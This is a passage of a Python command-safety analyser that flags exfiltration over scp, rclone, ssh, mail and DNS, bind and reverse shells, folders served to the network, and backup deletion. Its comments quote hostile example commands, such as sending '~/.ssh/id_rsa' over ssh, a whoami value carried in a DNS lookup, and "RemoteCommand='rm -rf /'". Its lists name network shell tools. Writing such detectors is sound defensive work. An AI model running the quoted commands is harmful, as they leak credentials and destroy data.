        return
    if (
        cmd.name == "scp"
        and len(ops) >= 2
        and _remote(ops[-1].text)
        and any(sensitive_source(w.text) for w in ops[:-1])
    ):
        cmd.add(C, "exfiltration", "copies home or system files to another machine")
        return
    if cmd.name in ("scp", "pscp") and len(ops) >= 2 and _remote(ops[-1].text):
        local = [w for w in ops[:-1] if not _remote(w.text)]
        if local:
            sends_local(cmd, local[0], "scp")  # (remote-to-remote `scp -3 a:x b:y`: no)
    if (
        cmd.name in ("croc", "wormhole", "magic-wormhole")
        and len(ops) >= 2
        and ops[0].text == "send"
        and not cmd.has("--text")
    ):
        sends_local(cmd, ops[1], cmd.name)  # `croc send build.zip`: to whoever has the code
    if (
        cmd.name == "rclone"
        and len(ops) >= 3
        and ops[0].text in ("copy", "sync", "move", "copyto", "moveto", "bisync")
        and _remote(ops[2].text)
        and not _remote(ops[1].text)
    ):
        sends_local(cmd, ops[1], f"rclone {ops[0].text}")
    if (
        cmd.name == "rclone"
        and len(ops) >= 2
        and ops[0].text == "rcat"
        and _remote(ops[1].text)
        and cmd.stdin.kind in (STDIN_FILE, STDIN_OTHER)
        and not cmd.has("--dry-run", "-n")
    ):
        # `rclone rcat remote:x < notes.txt`: a local file or a command's output is stored
        # on the remote (review 11, finding 14)
        sends_local(cmd, None, "rclone rcat")
    if cmd.name == "rclone" and len(ops) >= 3 and _rclone_local_loss(cmd, ops):
        return
    if (
        cmd.name == "rclone"
        and len(ops) >= 3
        and ops[0].text in ("copy", "sync", "move", "copyto", "moveto")
        and _remote(ops[2].text)  # rclone VERB SOURCE DEST (a filter's value may follow)
        and (
            sensitive_source(ops[1].text)
            or re.match(r"\A(\\\\|//)[^\\/]+[\\/]", ops[1].text)  # a file share
            or re.match(r"(?i)\A[a-z]:[\\/]users(?:[\\/]|\Z)", ops[1].text)
        )
    ):
        cmd.add(C, "exfiltration", "copies home or system files to a remote")
        return
    if (
        cmd.name == "rclone"
        and cmd.args
        and cmd.args[0].text in ("purge", "delete", "deletefile", "rmdir", "rmdirs", "sync")
    ):
        cmd.add(D, "cloud-delete", f"rclone {cmd.args[0].text} deletes remote files")
        return
    if (
        cmd.name == "rclone"
        and cmd.args
        and cmd.args[0].text
        in names(
            """
            ls lsd lsl lsf size cat version listremotes about check tree
            """
        )
    ):
        return
    cmd.add(M, "network", f"{cmd.name} copies files over the network")


# sftp's `-b` alone or after its flags without a value (OpenSSH getopt clusters them).
_SFTP_B = re.compile(r"-[46AaCfNpqRrv]*b(.*)\Z", re.S)


def _sftp_batch_unseen(cmd: Cmd) -> bool:
    """`sftp -b FILE host` (PuTTY's `psftp -b FILE`): the session runs FILE's lines (`put`,
    `!cmd`, `rm`). A batch written in this block is read (`_ftp_script_shell`); one the
    analyser cannot read, or stdin (`-b -`) fed from a file or a command's output, is
    opaque: critical (session-14 convention). True when judged so."""
    batch: Word | None = None
    for i, w in enumerate(cmd.args):
        # (`-b FILE`, `-bFILE`, and after other flags in one word: `-Cb FILE`, `-vbFILE`)
        m = _SFTP_B.match(w.text)
        if m is None:
            continue
        if m.group(1):
            batch = Word(m.group(1), w.start + m.start(1), w.end)
        elif i + 1 < len(cmd.args):
            batch = cmd.args[i + 1]
    if batch is None:
        return False
    if batch.text == "-" or batch.text == "/dev/stdin":
        if cmd.stdin.kind not in (STDIN_FILE, STDIN_OTHER):
            return False  # a heredoc, `echo 'put x' |`: read as the script above
        known = None
    else:
        base = batch.text.strip("\"'").replace("\\", "/").rsplit("/", 1)[-1]
        entry = cmd.scope.written.get(base)
        known = entry[0] if entry is not None else None
    if known is None:
        what = f"{cmd.name} runs a batch file the analyser cannot read"
        cmd.add(C, "config-exec", what, batch)
        return True
    return False


def _rclone_local_loss(cmd: Cmd, ops: list[Word]) -> bool:
    """`rclone move /etc remote:x` deletes each source file once it is copied; `rclone sync
    remote:empty /` deletes from the local destination whatever the source lacks (rclone(1)).
    A system folder, an account file or home lost that way is blocked; a named local folder
    moved away is a delete (dangerous) (n10u)."""
    from aintern_ls.safety.paths import classify_path

    verb = ops[0].text
    if verb not in ("move", "moveto", "sync", "bisync") or cmd.long("--dry-run"):
        return False
    if cmd.short("n") or cmd.has("-i", "--interactive"):
        return False  # `-n`: a dry run; `-i`: asks before every change
    lost = ops[1] if verb.startswith("move") else ops[2]
    if lost.dynamic or _remote(lost.text):
        return False
    t = classify_path(lost.text, cmd.scope.cwds)
    if t.level >= B:
        cmd.add(B, t.rule, f"rclone {verb} deletes {t.what}", lost)
        return True
    if verb.startswith("move") and not is_secret(lost.text):
        cmd.add(D, "rm", f"rclone {verb} deletes {lost.text} once it is copied", lost)
        return True
    return False


_SSH_WITH_VALUE = frozenset(
    names(
        """
        -p -i -l -o -F -J -L -R -D -b -c -E -e -I -m -O -Q -S -W -w -B
        """
    )
)


# Programs that run what they read: `ssh h bash < deploy.sh` runs a local script there.
_RUNS_STDIN = frozenset(
    names("sh bash dash zsh ksh ash fish python python3 perl ruby node php sudo doas pwsh")
)


# Remote-execution clients whose remote command reads this side's stdin (n12w: plink too).
_STDIN_SENDERS = frozenset(("ssh", "plink", "rsh", "dbclient", "tsh"))


def sends_stdin(cmd: Cmd, host_at: int) -> bool:
    """Whether ssh (or plink, rsh …) hands the remote command data read from a local file or
    a command's output (`ssh -n` reads nothing; a remote shell or interpreter runs what it
    reads). `host_at` is the index of the target host in `cmd.args`."""
    if cmd.stdin.kind not in (STDIN_FILE, STDIN_OTHER) or cmd.name not in _STDIN_SENDERS:
        return False
    rest = cmd.args[host_at + 1 :]
    if not rest or any(
        re.fullmatch(r"-[46AaCfgKkMNqsTtVvXxYy]*n[46AaCfgKkMNqsTtVvXxYy]*", w.text)
        for w in cmd.args[:host_at]
    ):
        return False
    first = rest[0].text.strip().split(" ", 1)[0].rsplit("/", 1)[-1]
    if first not in _RUNS_STDIN:
        return True
    return _remote_code_given(" ".join(w.text for w in rest))


def _remote_code_given(line: str) -> bool:
    """Whether a remote shell or interpreter gets its program elsewhere than stdin (`sh -c
    'cat > x'`, `python3 -c …`, `bash deploy.sh`): stdin is then data sent to the other
    host, not code it runs (review 11, finding 13). `bash`, `bash -s`, `python3 -` read
    their program from stdin."""
    try:
        toks = shlex.split(line)
    except ValueError:
        toks = line.split()
    k = 0
    while k < len(toks) and (
        toks[k].rsplit("/", 1)[-1] in ("sudo", "doas") or toks[k].startswith("-")
    ):
        k += 1  # a privilege wrapper and its options
    for t in toks[k + 1 : k + 12]:
        if t in ("-s", "-"):
            return False
        if re.fullmatch(r"-[A-Za-z]*[ceE][A-Za-z]*|-r|--command|--eval", t):
            return True  # code on the command line (`-c`, `-lc`, `-e`, php `-r`)
        if not t.startswith("-"):
            return True  # a script file: stdin is its data
    return False


@handles("ssh", "mosh", "autossh")
def _ssh(cmd: Cmd) -> None:
    if cmd.name == "ssh" and any(
        re.fullmatch(r"-[46AaCfgKkMNnqsTtVvXxYy]*[GQ][46AaCfgKkMNnqsTtVvXxYy]*", w.text)
        for w in cmd.args
    ):
        return  # `ssh -G host` prints the resolved configuration; `ssh -Q cipher` lists
    for i, w in enumerate(cmd.args):
        opt = w.text[2:] if w.text.startswith("-o") and len(w.text) > 2 else None
        if w.text == "-o" and i + 1 < len(cmd.args):
            opt = cmd.args[i + 1].text
        if opt is not None:
            key, _, value = opt.replace("=", " ", 1).partition(" ")
            if key.lower() == "match" and "exec" in value.lower():
                # (n19u) `-o 'Match exec "CMD"'`: ssh runs CMD to test whether the block applies
                m = re.search(r"(?i)\bexec\s+(?:\"([^\"]*)\"|'([^']*)'|(\S+))", value)
                if m is not None:
                    key, value = "proxycommand", next(g for g in m.groups() if g is not None)
            if key.lower() in ("proxycommand", "localcommand", "knownhostscommand"):
                run_config_command(
                    cmd,
                    Word(value.strip(), w.start, cmd.args[min(i + 1, len(cmd.args) - 1)].end),
                    f"ssh -o {key}",
                )
            elif key.lower() == "remotecommand" and value.strip().lower() != "none":
                # `ssh -o RemoteCommand='rm -rf /' host`: the remote command given as an
                # option instead of an operand, judged the same way (red team probe12)
                where = Word(value.strip(), w.start, cmd.args[min(i + 1, len(cmd.args) - 1)].end)
                if not where.dynamic:
                    cmd.scope.include(cmd.scope.nested(where.text, "bash", where, -1))
    i = skip_options(cmd.args, 0, _SSH_WITH_VALUE)
    if cmd.stdin.secret:
        # `ssh host 'cat > k' < ~/.ssh/id_rsa`: the remote side reads our stdin.
        cmd.add(C, "exfiltration", f"{cmd.name} sends private keys or credentials to a remote host")
    elif sends_stdin(cmd, i):
        # `tar cf - /etc | ssh h 'cat > e.tar'`, `ssh h 'cat > x' < notes.txt`: a local file
        # or a command's output goes to the other machine (session-13 convention) (n11u).
        cmd.add(
            C,
            "exfiltration",
            f"{cmd.name} sends a local file or a command's output to a remote host",
        )
    # Even `ssh db1 uptime` runs on another machine: at least moderate (the product's
    # labelled examples rate a remote read-only command moderate), whatever it runs.
    cmd.add(
        M,
        "network",
        f"{cmd.name} runs commands on another machine",
        cmd.args[i] if i < len(cmd.args) else None,
    )
    rest = cmd.args[i + 1 :]
    if rest:
        if len(rest) == 1:
            cmd.scope.include(cmd.scope.nested(rest[0].text, "bash", rest[0]))
        else:
            cmd.judge(list(rest), cmd.stdin)


@handles("check_by_ssh")
def _check_by_ssh(cmd: Cmd) -> None:
    """Nagios' check_by_ssh passes `-o KEY=VALUE` to ssh (ProxyCommand runs here) and runs
    `-C COMMAND` on the remote host (judged as that command, as for ssh)."""
    ssh_config_options(cmd)
    remote = cmd.option_value("-C", "--command")
    if remote is not None and not remote.dynamic:
        cmd.scope.include(cmd.scope.nested(remote.text, "bash", remote, -1))
    cmd.add(M, "network", "check_by_ssh runs a check on another machine")


@handles("http.server", "SimpleHTTPServer")
def _http_server(cmd: Cmd) -> None:
    """`python3 -m http.server` serves a folder to the network; serving the root, a home or a
    system folder publishes its files."""
    serve_folder(cmd, cmd.option_value("-d", "--directory"), not local_only(cmd))


@handles("jwebserver")
def _jwebserver(cmd: Cmd) -> None:
    """(n18u) The JDK's simple web server: `-d DIR` (default the working directory), bound
    to the loopback address unless `-b ADDR` says otherwise."""
    if cmd.has("-h", "-?", "--help", "-version", "--version"):
        return
    bind = cmd.option_value("-b", "--bind-address")
    exposed = bind is not None and (bind.dynamic or not _LOOPBACK.search(bind.text))
    serve_folder(cmd, cmd.option_value("-d", "--directory"), exposed)


def serve_folder(cmd: Cmd, folder: Word | None, exposed: bool = True) -> None:
    """A file server publishing `folder`, or the working directory when none is named and a
    `cd` earlier in the block set it (`cd / && python3 -m http.server`: h17)."""
    if folder is None or folder.text in (".", "./"):
        for cwd in _known_cwds(cmd):
            _serves(cmd, cwd, exposed)
        return
    _serves(cmd, folder, exposed)


def _known_cwds(cmd: Cmd) -> list[Word | None]:
    """(h18) Every folder the working directory may be here, in a fixed order (a set's
    order changes from run to run; each is judged, the worst wins); none known: None."""
    known = sorted(c for c in cmd.scope.cwds if c)
    return [Word(c, cmd.start, cmd.end) for c in known] if known else [None]


# Static file servers and how each is told its folder (h17: darkhttpd, miniserve, dufs,
# http-server, busybox httpd, caddy file-server, twistd web, updog ... serving `/` or a home
# publish it like `python3 -m http.server -d /`): the options that name the folder, else
# the first operand that looks like a path; none: the working directory.
_FILE_SERVERS: dict[str, tuple[str, ...]] = {
    "darkhttpd": (),
    "miniserve": (),
    "dufs": (),
    "http-server": (),
    "simple-http-server": (),
    "sfz": (),
    "updog": ("-d", "--directory"),
    "webfsd": ("-r",),
    "static-web-server": ("-d", "--root"),
    "goshs": ("-d", "--dir"),
    "serve": (),  # npm's `serve DIR`
    "pyftpdlib": ("-d", "--directory"),  # python -m pyftpdlib: an FTP server
    "uploadserver": ("-d", "--directory"),  # python -m uploadserver
}
_PATH_LIKE = re.compile(r"\A(?:[/~.]|\$\{?HOME\b|[A-Za-z]:[\\/])|/")
_LOOPBACK = re.compile(r"(?i)(?:\A|[=\s:/\[])(?:127\.\d+\.\d+\.\d+|localhost|::1)(?:\Z|[:\]\s])")


# (r17) the options whose value says where a server listens: only their value can make it
# local (`--log /tmp/localhost`, `-t titleFixed=localhost`, `-c 'echo localhost'` do not).
_BIND_OPTIONS = frozenset(
    names(
        """
        -a --address --addr -b --bind --bind-address --bind-addr -H --host --hostname -i
        --interface --iface -l --listen -p --port -S -L --http-address --listen-address
        --http-addr --ip --interfaces
        """
    )
)
_LOOPBACK_IFACE = frozenset(("lo", "lo0"))


def local_only(cmd: Cmd) -> bool:
    """The server binds only to the loopback interface (`-b 127.0.0.1`, `--addr localhost:80`,
    `--listen tcp:80:interface=127.0.0.1`, `-i lo`): read from a bind option's value."""
    args = cmd.args
    for i, w in enumerate(args):
        t = w.text
        opt, eq, value = t.partition("=")
        if eq and opt in _BIND_OPTIONS:
            pass  # `--bind=127.0.0.1`
        elif i and args[i - 1].text in _BIND_OPTIONS and not t.startswith("-"):
            value = t  # `-b 127.0.0.1`
        elif "interface=" in t.lower():
            value = t.lower().split("interface=", 1)[1]  # twistd's endpoint strings
        else:
            continue
        if _LOOPBACK.search(value) or value.lower() in _LOOPBACK_IFACE:
            return True
    return False


def _served(cmd: Cmd, options: tuple[str, ...]) -> Word | None:
    if options:
        return cmd.option_value(*options)
    return next(
        (w for w in cmd.args if not w.text.startswith("-") and _PATH_LIKE.search(w.text)), None
    )


@handles(*_FILE_SERVERS)
def _file_server(cmd: Cmd) -> None:
    if cmd.has("-h", "--help", "-V", "--version"):
        return
    serve_folder(cmd, _served(cmd, _FILE_SERVERS[cmd.name]), not local_only(cmd))


# Web terminals serve the command they are given to every browser that connects (h17):
# a shell there is a bind shell, anything else a program published to the network.
_WEB_TERMINALS = frozenset(names("gotty ttyd websocketd wetty"))
_SERVED_SHELLS = frozenset(
    names("sh bash dash zsh ksh mksh fish ash busybox pwsh powershell cmd cmd.exe tmux screen")
)


@handles(*_WEB_TERMINALS)
def _web_terminal(cmd: Cmd) -> None:
    if cmd.has("-h", "--help", "-v", "--version"):
        return
    served = [
        w
        for w in cmd.args
        if not w.text.startswith("-") and w.text.rsplit("/", 1)[-1].lower() in _SERVED_SHELLS
    ]
    command = cmd.option_value("--command")  # wetty --command bash
    if command is not None and command.text.split(" ")[0].rsplit("/", 1)[-1] in _SERVED_SHELLS:
        served.append(command)
    if served and not local_only(cmd):
        cmd.add(C, "remote-access", f"{cmd.name} serves a shell to the network (a bind shell)")
    else:
        cmd.add(M, "network", f"{cmd.name} serves a terminal program to the network")


@handles("powercat")
def _powercat(cmd: Cmd) -> None:
    """powercat (netcat in PowerShell): `-e PROGRAM` / `-ep` gives the connection a shell."""
    if cmd.has("-e", "-ep"):
        cmd.add(C, "reverse-shell", "powercat hands a network connection a shell")
    else:
        cmd.add(M, "network", "powercat opens a network connection")


@handles("httpd")
def _httpd(cmd: Cmd) -> None:
    """BusyBox's `httpd -h DIR` serves DIR (Apache's `httpd -h` alone prints its help)."""
    home = cmd.option_value("-h")
    if home is not None and not home.text.startswith("-"):
        serve_folder(cmd, home, not local_only(cmd))
    elif cmd.args and all(
        w.text in ("-h", "-v", "-V", "-t", "-l", "-L", "-M", "-S") for w in cmd.args
    ):
        return  # help, version, config test, module listings
    else:
        cmd.add(M, "network", "httpd runs a web server")


@handles("twistd")
def _twistd(cmd: Cmd) -> None:
    """`twistd -n web --path DIR` and `twistd -n ftp -r DIR` serve DIR (other plugins run
    their own servers)."""
    texts = cmd.texts()
    if "web" in texts or "ftp" in texts:
        # `twistd -n web --path DIR`, `twistd -n ftp -r DIR`
        path = cmd.option_value("--path") if "web" in texts else cmd.option_value("-r", "--root")
        serve_folder(cmd, path, not local_only(cmd))
    else:
        cmd.add(M, "network", "twistd runs a network service")


def _serves(cmd: Cmd, folder: Word | None, exposed: bool) -> None:
    if (
        exposed
        and folder is not None
        and (
            sensitive_source(folder.text.rstrip("/") or "/")
            or folder.text.rstrip("/") in ("",)
            or _protected_folder(folder, cmd)
        )
    ):
        cmd.add(C, "exfiltration", f"serves {folder.text} to the network", folder)
        return
    cmd.add(M, "network", f"serves {'the current folder' if folder is None else folder.text}")


def _protected_folder(folder: Word, cmd: Cmd) -> bool:
    """A folder whose deletion would be blocked (a drive root, the profiles folder, a
    system folder, in Windows spelling too: `-d C:\\`, `C:\\Users`): serving it publishes it."""
    from aintern_ls.safety.paths import classify_path

    if folder.dynamic or folder.text.rstrip("/") in _SHARED_DATA:
        return False
    return classify_path(folder.text, cmd.scope.cwds).level >= B


# Folders whose deletion is blocked but whose job is to hold shared or served data: serving
# them publishes nobody's home or system files.
_SHARED_DATA = frozenset(names("/tmp /var/tmp /dev/shm /srv /mnt /media /opt /var/www"))


def php_server(cmd: Cmd) -> None:
    """PHP's built-in web server (`php -S ADDR -t DOCROOT`): listening on every interface or
    a public address while serving the root, a home or a system folder publishes it."""
    addr = cmd.option_value("-S")
    if addr is None:
        glued = next((w for w in cmd.args if w.text.startswith("-S") and len(w.text) > 2), None)
        addr = Word(glued.text[2:], glued.start, glued.end) if glued is not None else None
    host = (addr.text if addr is not None else "").rsplit(":", 1)[0].strip("[]").lower()
    exposed = host not in ("localhost", "127.0.0.1", "::1", "") and not host.startswith("127.")
    folder = cmd.option_value("-t")
    if folder is None:  # the docroot defaults to the working directory
        for cwd in _known_cwds(cmd):
            _serves(cmd, cwd, exposed)
        return
    _serves(cmd, folder, exposed)


@handles("sendmail", "mutt", "mailx", "msmtp", "ssmtp", "swaks")
def _mailer(cmd: Cmd) -> None:
    """Mail programs send what they read: a file or a command's output is exfiltration."""
    attach = cmd.option_value("-a", "--attach", "-A", "--attach-file")
    if cmd.stdin.secret or (
        attach is not None and (is_secret(attach.text) or sensitive_source(attach.text))
    ):
        cmd.add(C, "exfiltration", f"{cmd.name} mails private keys or credentials")
    elif cmd.stdin.kind in (STDIN_FILE, STDIN_OTHER) or attach is not None:
        cmd.add(C, "exfiltration", f"{cmd.name} mails a file or a command's output")
    else:
        cmd.add(M, "network", f"{cmd.name} sends mail")


# --- backups to another machine ----------------------------------------------------------
_BACKUP_REMOTE = re.compile(
    r"\A(?:rest:|s3:|sftp:|b2:|azure:|gs:|swift:|rclone:|ssh://|[\w.-]+@[\w.-]+:)"
)


@handles("restic", "borg", "borg2", "duplicity", "kopia")
def _backup(cmd: Cmd) -> None:
    """Backups to a repository on another machine send files there: critical when the files
    are home or system files (as scp/rsync to a remote is); `forget --prune`/`prune`/
    `delete` destroy snapshots."""
    texts = cmd.texts()
    repo = [v.text for _, v in system.opt_values(cmd, "-r --repo --repository")]
    repo += [t for t in texts if _BACKUP_REMOTE.match(t) or "::" in t]
    sub = next((t for t in texts if not t.startswith("-") and t not in repo), "")
    words = [t for t in texts if not t.startswith("-") and t not in repo]
    if (
        cmd.name == "kopia"
        and len(words) > 1
        and sub in ("snapshot", "snap", "repository", "policy")
    ):
        # `kopia snapshot list|delete`, `kopia snap rm` (kopia's short alias): the verb is the
        # second word
        sub = words[1]
    if sub in (
        "snapshots",
        "list",
        "ls",
        "info",
        "stats",
        "check",
        "diff",
        "version",
        "help",
        "find",
        "cat",
        "key",
    ):
        return
    if cmd.name == "kopia" and words[:1] == ["policy"]:
        # `kopia policy delete|set PATH`: a backup policy (settings; the path falls back to
        # the global policy), not a snapshot deleted (review 11, finding 22)
        cmd.add(M, "write", f"kopia policy {sub} changes a backup policy")
        return
    remote = any(_BACKUP_REMOTE.match(r) for r in repo) or bool(
        re.search(r"(?:^|\s)(?:scp|sftp|s3|b2|gs|ftp|rsync)://", " ".join(texts))
    )
    if cmd.name == "kopia" and sub in ("delete", "rm", "expire") and "--delete" not in texts:
        return  # kopia-snapshot-delete(1): without --delete it only lists what it would delete
    if sub in ("forget", "delete", "rm") and _named_backup(cmd, texts, repo, words, sub):
        return
    if sub in ("forget", "prune", "delete", "rm", "compact") or (sub == "remove-older-than"):
        cmd.add(D, "backup-delete", f"{cmd.name} {sub} deletes backup snapshots")
        return
    if sub in ("backup", "create", "snapshot", "full", "incremental", "incr", "") and remote:
        srcs = [t for t in texts if t.startswith(("/", "~")) and t not in repo]
        if any(sensitive_source(s) for s in srcs):
            cmd.add(C, "exfiltration", f"{cmd.name} copies home or system files to another host")
            return
        cmd.add(M, "network", f"{cmd.name} uploads a backup to another host")
        return
    cmd.add(M, "write", f"{cmd.name} {sub} reads or writes a backup repository")


def _named_backup(cmd: Cmd, texts: list[str], repo: list[str], words: list[str], sub: str) -> bool:
    """`borg delete /repo::arch`, `borg delete -a arch`, `restic forget 4a5b6c7d`, `kopia
    snapshot delete k12…`: one named backup deleted is blocked (session-13 convention: a
    backup is the last copy); `borg delete /repo` deletes every archive of the repository.
    A retention policy (`--keep-*`, `--within`) keeps some: left to the caller (dangerous).
    True when judged here (n11u)."""
    if any(t.startswith(("--keep", "--within", "--older", "--newer", "--prefix")) for t in texts):
        return False
    if "--cache-only" in texts:
        return False  # `borg delete --cache-only`: the local cache, not the backups
    if cmd.name == "kopia" and words[:1] == ["snapshot"] and "--delete" not in texts:
        return True  # `kopia snapshot delete ID` without --delete only shows what it would do
    after = words[words.index(sub) + 1 :] if sub in words else []
    in_repo = [r.split("::", 1)[1] for r in repo if "::" in r and r.split("::", 1)[1]]
    option = [v.text for _, v in system.opt_values(cmd, "-a --match-archives --glob-archives")]
    named = [*in_repo, *option, *after]
    if named:
        what = ", ".join(named[:3])
        cmd.add(
            B, "backup-delete", f"{cmd.name} {sub} deletes the named backup {what} (the last copy)"
        )
        return True
    if cmd.name.startswith("borg") and sub == "delete" and repo:
        cmd.add(
            B,
            "backup-delete",
            f"borg delete removes the whole repository {repo[0]} (every archive)",
        )
        return True
    return False


@handles("bupstash", "hb")
def _other_backups(cmd: Cmd) -> None:
    """bupstash `rm QUERY`, HashBackup `hb rm`: named backups deleted (blocked, session 13)."""
    texts = cmd.texts()
    verb = next((t for t in texts if not t.startswith("-")), "")
    if verb in ("rm", "remove") and len([t for t in texts if not t.startswith("-")]) > 1:
        cmd.add(B, "backup-delete", f"{cmd.name} {verb} deletes named backups (the last copy)")
    elif verb in ("list", "ls", "get", "dir", "versions", "config", "help", ""):
        return
    else:
        cmd.add(M, "write", f"{cmd.name} {verb} reads or writes a backup repository")


@handles("tarsnap")
def _tarsnap(cmd: Cmd) -> None:
    """`tarsnap -d` deletes an archive, `--nuke` every archive; `-c` uploads; `--list-archives`,
    `-t`, `--print-stats` only read."""
    low = [t.lower() for t in cmd.texts()]
    if "--nuke" in low:
        cmd.add(B, "backup-delete", "tarsnap --nuke deletes every archive")
    elif cmd.short("d"):
        # one named archive deleted: blocked (session-13 convention: the last copy) (n11u)
        cmd.add(B, "backup-delete", "tarsnap -d deletes a named backup archive (the last copy)")
    elif cmd.short("cx") or "--recover" in low or "--fsck" in low:
        cmd.add(M, "write", "tarsnap writes an archive or local files")


# --- DNS exfiltration, every resolver in every shell (safety-p5) -------------------------
# A name looked up carries its labels to whoever runs that domain's name server: a name
# built from a command's output (`nslookup "$(whoami).x.example"`, cmd's `for /f … do
# ping %a.x.example`, PowerShell `"$($k.Substring(0,40)).x.example"`) or from a run-time
# value put in front of a public domain sends that value out. Every resolver and every
# program that resolves a name it is given counts.
RESOLVERS = frozenset(
    names(
        """
        nslookup dig drill host kdig delv doggo dog adnshost avahi-resolve
        avahi-resolve-host-name nmblookup resolvectl systemd-resolve getent ping ping6 fping
        hping3 traceroute traceroute6 tracepath tracert pathping mtr whois resolve-dnsname
        test-connection test-netconnection nmap masscan nping arping
        """
    )
)
_INTERNAL_SUFFIX = r"(?:local|lan|internal|intranet|localdomain|home|corp|ad|localhost|test)"
_RUNTIME_NAME = re.compile(r"[$%][^\s]*\.[\w-]+\.(?!" + _INTERNAL_SUFFIX + r"\.?$)[A-Za-z]{2,}\.?$")


# `("$env:USERNAME" + ".x.example")`: a public domain written next to a run-time value
_PUBLIC_LABEL = re.compile(r"(?i)\.[\w-]+\.(?!" + _INTERNAL_SUFFIX + r"\b)[a-z]{2,}\b(?![.\w])")


def _ps_known(env: dict[str, str]) -> Callable[[re.Match[str]], str]:
    """A `re.sub` callback putting a PowerShell variable's literal value in its place."""

    def sub(m: re.Match[str]) -> str:
        return env.get("\x00ps:$" + m.group(1).lower(), m.group(0))

    return sub


# (h20) Environment variables the analyser reads as a stand-in value (`$USER` is `user`,
# `$HOME` is `~`): in a looked-up name they are this machine's value, sent to the domain.
_MACHINE_VAR = re.compile(r"\$\{?(USER|HOME|USERPROFILE|PWD|SHELL|PATH|BASH|LOGNAME|USERNAME)\b")


def _machine_value_in_name(cmd: Cmd, raw: str) -> bool:
    """(h20) `dig $USER.x.example`, `host "${HOME}.x.example"`: a stand-in value read
    from the environment (not set in this block) in front of a public domain."""
    m = _MACHINE_VAR.search(raw)
    return (
        m is not None
        and m.group(1) not in cmd.scope.env
        and _RUNTIME_NAME.search(raw.replace('"', "").replace("'", "")) is not None
    )


def dns_exfiltration(cmd: Cmd) -> bool:
    """Add the exfiltration finding when a resolver is handed a name (or a ping payload)
    holding a command's output or a run-time value in front of a public domain."""
    if cmd.name not in RESOLVERS:
        return False
    src = cmd.scope.source
    for w in cmd.args:
        raw = src[max(w.start, 0) : max(w.end, 0)]
        if not w.dynamic and "$(" not in raw and "`" not in raw:
            if "$" in raw and cmd.scope.family == "bash" and _machine_value_in_name(cmd, raw):
                cmd.add(
                    C,
                    "exfiltration",
                    f"{cmd.name} puts this machine's user, home or host name in a DNS name"
                    " (exfiltration)",
                    w,
                )
                return True
            continue
        if cmd.scope.family == "powershell" and "$" in raw:
            # a variable this block set to a literal (`foreach ($h in 'a','b')`) is that text
            raw = re.sub(r"\$(\w+)(?!\w|:)", _ps_known(cmd.scope.env), raw)
            if "$" not in raw and "(" not in raw:
                continue
        substituted = (
            "$(" in raw or ("`" in raw and cmd.scope.family == "bash") or w.origin == ORIGIN_SUBST
        )
        computed = cmd.scope.family == "powershell" and bool(
            re.search(r"\$env:|\(\s*[A-Za-z$]", raw) and _PUBLIC_LABEL.search(raw)
        )
        if substituted or computed or _RUNTIME_NAME.search(w.text):
            cmd.add(
                C,
                "exfiltration",
                f"{cmd.name} puts a command's output or a run-time value in a DNS name"
                " (exfiltration)",
                w,
            )
            return True
    return False


@handles(
    *names(
        """
        drill kdig delv doggo dog adnshost avahi-resolve avahi-resolve-host-name nmblookup
        resolvectl systemd-resolve fping traceroute6
        """
    )
)
def _resolver(cmd: Cmd) -> None:
    """DNS clients: a lookup reads; a name carrying a command's output is exfiltration;
    resolvectl's settings verbs change the resolver."""
    if dns_exfiltration(cmd):
        return
    ops = [w.text for w in cmd.args if not w.text.startswith("-")]
    if (
        cmd.name in ("resolvectl", "systemd-resolve")
        and ops
        and ops[0]
        in names(
            """
        dns domain default-route llmnr mdns dnssec dnsovertls nta revert flush-caches
        reset-statistics reset-server-features log-level
        """
        )
    ):
        cmd.add(M, "network", f"{cmd.name} {ops[0]} changes the resolver's settings")


# --- secret files sent to storage by any program (safety-m6) -----------------------------
# Whatever the CLI (aws, gsutil, az, oci, b2, swift, storj, azcopy, a cmdlet), a credential
# file handed to it together with a remote destination, or with an upload verb, leaves the
# machine: exfiltration (critical, session-8 convention), never a delete.
_REMOTE_DEST = re.compile(
    r"(?i)\A(?:[a-z][a-z0-9+.-]{1,15}://\S+|[A-Za-z][\w.-]{1,40}:(?![\\/]{0,1}\Z)[^\\\s]*"
    r"|[\w.-]{1,64}@[\w.-]{1,253}:[^\s]*"
    r"|\\\\[^\\]+\\\S+)\Z"
)
_UPLOAD_VERB = re.compile(
    r"(?i)\A(?:cp|copy|put|upload|upload-file|upload-blob|sync|rcat|push|send|transfer|mirror"
    r"|share|publish|store|write|import|post|object-put|put-object|upload-\S+|\S+-upload)\Z"
)
_UPLOAD_CMDLET = re.compile(
    r"(?i)\A(?:write-s3object|write-gcsobject|set-azstorageblobcontent|set-azurestorageblobcontent"
    r"|send-\S+|publish-\S+|invoke-restmethod|invoke-webrequest|start-bitstransfer)\Z"
)
# Options whose value is what gets sent (`--file X`, `-File X`, `-T X`, `--source X`).
_SOURCE_OPTIONS = frozenset(
    o.lower()
    for o in names(
        """
        -f --file -file -infile --infile -path -literalpath --source --src -source -s --input
        -input -T --upload-file --from-file --body --content -localfile --local-file
        --localpath --local-path -filepath --filepath --data-file --value-file --secret-file
        """
    )
)
# Switches that take no value (a file after them is an operand).
_SWITCH = re.compile(
    r"(?i)\A-(?:-(?:recursive|force|quiet|verbose|no-progress|overwrite|acl|public|r|q|v))\Z"
    r"|\A-[rRqvf]{1,3}\Z"
)
# Program names that say they send what they are given (`pastebinit`, `gist-upload`,
# `transfer-cli`).
_UPLOAD_NAME = re.compile(r"(?i)paste|upload|share|send|publish|gist|transfer|exfil")
# Programs that only handle files here: a remote-looking word (`host:path`) is theirs.
_LOCAL_ONLY = frozenset(names("cp mv ln install rsync scp sftp tar zip unzip cat chmod chown"))


_HOME_VAR = re.compile(r"\$(?:HOME\b|\{HOME\})")
# (n19u) Secret stores and CI settings written from a file or stdin: `gh secret set K <
# FILE`, `gcloud secrets versions add K --data-file=FILE`, `doppler secrets set`, `gh
# variable set`, `az keyvault secret set`, `aws ssm put-parameter`, `heroku config:set`.
_STORE_NOUNS = frozenset(
    names("secret secrets variable variables keyvault kv ssm secretsmanager vault parameters")
)
_STORE_VERBS = frozenset(
    names(
        """
        set add create put update import upload put-parameter put-secret-value create-secret
        update-secret config:set secrets:set
        """
    )
)


def _secret_store_write(ops: list[str]) -> bool:
    """Whether the first operands name a secret store and a verb writing to it."""
    head = [t.lower() for t in ops[:4]]
    return any(t in _STORE_VERBS for t in head) and (
        any(t in _STORE_NOUNS for t in head) or any(t.endswith(":set") for t in head)
    )


def secret_upload(cmd: Cmd) -> Word | None:
    """The credential file a command sends away, when it names one (as an operand or an
